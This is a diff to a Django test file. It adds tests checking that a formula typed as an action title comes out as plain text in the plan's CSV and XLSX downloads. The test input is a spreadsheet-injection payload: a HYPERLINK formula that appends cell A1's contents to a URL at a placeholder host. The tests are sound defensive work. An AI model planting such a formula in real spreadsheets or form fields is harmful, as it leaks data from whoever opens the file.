@@ -1,7 +1,12 @@
-"""The action plan's CSV and XLSX, as downloaded."""
+"""The action plan's CSV and XLSX, as downloaded: what a member typed as an action's title
+arrives in the spreadsheet as text, never as a formula."""
+
+import csv
+import io
 
 import pytest
 from django.urls import reverse
+from openpyxl import load_workbook
 
 from tables import services
 from tables.models import Document
@@ -12,6 +17,7 @@ from tests.tables.test_plans import make_plan, structure
 pytestmark = pytest.mark.django_db
 
 HOSTILE_TITLE = '=HYPERLINK("http://x.example/?d="&A1,"Voir")'
+TITLE_COLUMN = 5
 
 
 def download(world, kind, django_capture_on_commit_callbacks):
@@ -24,6 +30,23 @@ def download(world, kind, django_capture_on_commit_callbacks):
     response = client_as(world, "coordinator").get(reverse("tables:document-download", args=[document.pk]))
     assert response.status_code == 200
     return response
+
+
+def test_the_plan_csv_keeps_a_formula_typed_as_an_action_title_as_text(
+    world, django_capture_on_commit_callbacks
+):
+    response = download(world, "plan_csv", django_capture_on_commit_callbacks)
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))
+    assert rows[1][TITLE_COLUMN - 1] == "'" + HOSTILE_TITLE
+
+
+def test_the_plan_xlsx_keeps_a_formula_typed_as_an_action_title_as_text(
+    world, django_capture_on_commit_callbacks
+):
+    response = download(world, "plan_xlsx", django_capture_on_commit_callbacks)
+    cell = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.cell(2, TITLE_COLUMN)
+    assert (cell.value, cell.data_type) == ("'" + HOSTILE_TITLE, "s")
 
 
 @pytest.mark.parametrize(
